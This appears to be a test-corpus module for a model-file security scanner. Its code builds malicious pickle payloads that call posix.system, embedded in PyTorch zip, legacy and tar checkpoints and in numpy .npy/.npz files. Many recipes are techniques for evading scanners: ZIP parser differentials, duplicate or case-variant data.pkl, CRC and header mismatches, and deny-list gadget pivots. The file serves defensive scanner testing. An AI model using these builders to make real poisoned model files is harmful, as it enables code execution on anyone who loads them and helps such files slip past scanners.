"""Malicious corpus, continued: payloads inside torch zip and legacy files and numpy files,
including archives that ZIP readers disagree about."""

from __future__ import annotations

import io
import tarfile
import zipfile

from tests.scanner import rawzip
from tests.scanner.asm import Call, Global, Raw, assemble, body
from tests.scanner.corpus_malicious import MAGIC, recipe, system

G = Global
BENIGN_PICKLE = b"\x80\x02}q\x00."


def torch_zip(data_pkl: bytes, **options) -> bytes:
    return rawzip.build(rawzip.torch_members("archive", data_pkl, **options))


def real_state_dict_members(data_pkl_hook) -> bytes:
    """torch.save of a small real state dict, with data.pkl rewritten by `data_pkl_hook`."""
    import torch

    buffer = io.BytesIO()
    torch.save({"weight": torch.arange(6.0).reshape(2, 3), "bias": torch.zeros(2)}, buffer)
    archive = zipfile.ZipFile(buffer)
    members = []
    for info in archive.infolist():
        data = archive.read(info)
        if info.filename.endswith("/data.pkl"):
            data = data_pkl_hook(data)
        members.append(rawzip.Member(info.filename, data))
    return rawzip.build(members)


@recipe("zip-data-pkl-posix-system", "torch zip archive whose data.pkl calls posix.system")
def _(c):
    return "zip_basic.pt", torch_zip(assemble(system(c))), "torch"


@recipe("zip-payload-before-real-state-dict", "payload prepended to a real state dict: the file "
        "still loads as weights (Trail of Bits 'Sleepy Pickle' style)")
def _(c):
    def inject(data: bytes) -> bytes:
        return data[:2] + body(system(c)) + b"0" + data[2:]
    return "zip_prepended.pt", real_state_dict_members(inject), "torch"


@recipe("zip-protocol4-stack-global", "torch zip data.pkl in protocol 4 with STACK_GLOBAL")
def _(c):
    return "zip_p4.pt", torch_zip(assemble(system(c, stack=True), 4)), "torch"


@recipe("zip-frame-straddle", "FRAME shorter than the string inside it: the C unpickler reading "
        "torch's BytesIO skips ahead, sequential parsers see only strings")
def _(c):
    payload = b"cposix\nsystem\n(" + body(c.sh) + b"tR"
    # Read from a file, the string is `skipped` (the frame's "abc" is dropped); read in order
    # it is "abc" + 20 A's, then POP and a (Python 2) string that swallows the payload. All of
    # it is ASCII, so both readings decode.
    skipped = b"A" * 20 + b"0U" + bytes([len(payload)])
    frame = b"\x8c" + bytes([len(skipped)]) + b"abc"
    data = (b"\x80\x04\x95" + len(frame).to_bytes(8, "little") + frame + skipped + payload
            + b".")
    return "zip_frame.pt", torch_zip(data), "torch"


@recipe("zip-case-variant-data-pkl", "PyTorch's miniz finds `DATA.PKL` case-insensitively")
def _(c):
    members = rawzip.torch_members("archive", assemble(system(c)))
    members[0].name = "archive/DATA.PKL"
    return "zip_case.pt", rawzip.build(members), "torch"


@recipe("zip-duplicate-data-pkl", "two, then three entries named data.pkl; readers pick "
        "different ones (first-match readers see the benign copy)")
def _(c):
    members = rawzip.torch_members("archive", BENIGN_PICKLE)[1:]
    copies = [rawzip.Member("archive/data.pkl", BENIGN_PICKLE),
              rawzip.Member("archive/data.pkl", BENIGN_PICKLE),
              rawzip.Member("archive/data.pkl", assemble(system(c)))]
    return "zip_duplicate.pt", rawzip.build(copies + members), "torch"


@recipe("zip-crc-mismatch", "wrong CRC on data.pkl: Python's zipfile refuses it, miniz loads it "
        "(JFrog's picklescan CRC bypass)")
def _(c):
    return "zip_crc.pt", torch_zip(assemble(system(c)), crc=0x12345678), "torch"


@recipe("zip-local-name-mismatch", "local header names another file than the central directory "
        "(CVE-2025-1944 in picklescan)")
def _(c):
    return "zip_localname.pt", torch_zip(assemble(system(c)),
                                         local_name="archive/notes.txt"), "torch"


@recipe("zip-two-central-directories", "two central directories: miniz follows the end record's "
        "offset, Python's zipfile the one before it (and sees only benign members)")
def _(c):
    evil = rawzip.torch_members("archive", assemble(system(c)))
    benign = rawzip.torch_members("archive", BENIGN_PICKLE)  # shorter than the evil copy
    body1, placed1 = rawzip.local_entries(evil)
    cd1 = rawzip.central_directory(placed1)
    body2, placed2 = rawzip.local_entries(benign, start=len(body1) + len(cd1))
    shift = len(cd1) + len(body2)
    cd2 = rawzip.central_directory(placed2, offset_shift=shift)
    data = body1 + cd1 + body2 + cd2 + rawzip.end_record(len(placed1), len(cd1), len(body1))
    return "zip_two_cd.pt", data, "torch"


@recipe("zip-deflated-data-pkl", "compressed data.pkl: torch.save never compresses, miniz reads it")
def _(c):
    return "zip_deflate.pt", torch_zip(assemble(system(c)), method=8), "torch"


@recipe("zip-no-utf8-flag", "member names without the UTF-8 flag (CVE-2025-1945 family: flag "
        "bits readers treat differently)")
def _(c):
    return "zip_flags.pt", torch_zip(assemble(system(c)), flags=0), "torch"


@recipe("zip-trailing-comment", "archive comment and bytes after the end record")
def _(c):
    return "zip_comment.pt", rawzip.build(rawzip.torch_members("archive", assemble(system(c))),
                                          comment=b"scanned-ok") + b"\0" * 7, "torch"


@recipe("zip-nullifai", "nullifAI inside torch zip: payload, then a corrupt data.pkl")
def _(c):
    return "zip_nullifai.pt", torch_zip(b"\x80\x02" + body(system(c)) + b"0\xff"), "torch"


@recipe("zip-build-setstate", "BUILD __setstate__ injection inside a torch archive")
def _(c):
    data = (b"\x80\x02" + body(Call(G("collections", "OrderedDict")))
            + body({"__setstate__": G("posix", "system")}) + b"b" + body(c.sh) + b"b.")
    return "zip_setstate.pt", torch_zip(data), "torch"


@recipe("zip-torch-load-from-bytes", "torch gadget: torch.storage._load_from_bytes runs "
        "torch.load(weights_only=False) on embedded bytes")
def _(c):
    inner = torch_zip(assemble(system(c)))
    return "zip_from_bytes.pt", torch_zip(assemble(Call(G("torch.storage", "_load_from_bytes"),
                                                        inner))), "torch"


@recipe("zip-torch-load-nested", "torch gadget: torch.serialization.load with a pickle module "
        "argument (picklescan deny-list: torch.serialization.load)")
def _(c):
    inner = Call(G("io", "BytesIO"), torch_zip(assemble(system(c))))
    pickle_module = Call(G("importlib", "import_module"), "pickle")
    outer = Call(G("torch.serialization", "load"), inner, None, pickle_module)
    return "zip_nested_load.pt", torch_zip(assemble(outer)), "torch"


@recipe("zip-getattr-pivot", "getattr pivot: torch.serialization's own `os` attribute")
def _(c):
    os_module = Call(G("builtins", "getattr"), G("torch", "serialization"), "os")
    call = Call(Call(G("builtins", "getattr"), os_module, "system"), c.sh)
    return "zip_pivot.pt", torch_zip(assemble(call)), "torch"


@recipe("zip-numpy-load-gadget", "numpy gadget: numpy.load(path, None, True) on an object array")
def _(c):
    inner = c.helper("inner.npy", npy_object_array(c))
    return "zip_np_load.pt", torch_zip(assemble(Call(G("numpy", "load"), str(inner), None,
                                                     True))), "torch"


@recipe("zip-numpy-runstring", "picklescan deny-list: numpy.testing._private.utils.runstring")
def _(c):
    call = Call(G("numpy.testing._private.utils", "runstring"), c.py, {})
    return "zip_runstring.pt", torch_zip(assemble(call)), "torch"


# --- legacy torch format -------------------------------------------------------------------

def legacy(c, poisoned: int) -> bytes:
    """A legacy-format file (magic, protocol, sys_info, main, keys, storages) with the payload
    run first inside pickle number `poisoned`; the file still loads."""
    values = [MAGIC, 1001, {"protocol_version": 1001, "little_endian": True,
                            "type_sizes": {"short": 2, "int": 4, "long": 4}}]
    pickles = [assemble(v) for v in values]
    storage = ("storage", G("torch", "FloatStorage"), "0", "cpu", 2, None)
    rebuild = Call(G("torch._utils", "_rebuild_tensor_v2"), persistent(storage), 0, (2,),
                   (1,), False, Call(G("collections", "OrderedDict")))
    pickles.append(assemble({"w": rebuild}))
    pickles.append(assemble(["0"]))
    first, rest = pickles[poisoned][:2], pickles[poisoned][2:]
    pickles[poisoned] = first + body(system(c)) + b"0" + rest
    return b"".join(pickles) + (2).to_bytes(8, "little") + b"\0" * 8


def persistent(pid) -> Raw:
    return Raw(body(pid) + b"Q")


@recipe("legacy-payload-in-magic", "legacy format: the magic-number pickle runs first")
def _(c):
    return "legacy_magic.pt", legacy(c, 0), "torch"


@recipe("legacy-payload-in-sys-info", "legacy format: payload in the sys_info pickle")
def _(c):
    return "legacy_sysinfo.pt", legacy(c, 2), "torch"


@recipe("legacy-payload-in-main", "legacy format: payload in the main pickle")
def _(c):
    return "legacy_main.pt", legacy(c, 3), "torch"


@recipe("legacy-payload-in-storage-keys", "legacy format: payload in the storage-key pickle, read "
        "after the main object")
def _(c):
    return "legacy_keys.pt", legacy(c, 4), "torch"


def legacy_tar(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


@recipe("legacy-tar-pickle-member", "pre-1.0 tar format: weights_only refuses it, "
        "weights_only=False unpickles its members")
def _(c):
    return "legacy_tar.pt", legacy_tar({
        "storages": assemble(0) + assemble([]), "tensors": assemble(0),
        "pickle": assemble(system(c))}), "torch"


@recipe("legacy-tar-storages-member", "tar format: payload in the storages member")
def _(c):
    return "legacy_tar_storages.pt", legacy_tar({"storages": assemble(system(c))}), "torch"


# --- numpy ---------------------------------------------------------------------------------

def npy_object_array(c) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header = header.ljust(117) + "\n"
    array = Call(G("numpy.core.multiarray", "_reconstruct"), G("numpy", "ndarray"), (0,), b"b")
    state = (1, (1,), Call(G("numpy", "dtype"), "O8", False, True), False, [system(c)])
    data = b"\x80\x03" + body(array) + body(state) + b"b."
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header.encode() + data


@recipe("npy-object-array", "pickle in a .npy object array (np.load(allow_pickle=True))")
def _(c):
    return "object.npy", npy_object_array(c), "numpy"


@recipe("npz-object-array", "pickle in a .npz member's object array")
def _(c):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("weights.npy", npy_object_array(c))
    return "object.npz", out.getvalue(), "numpy"
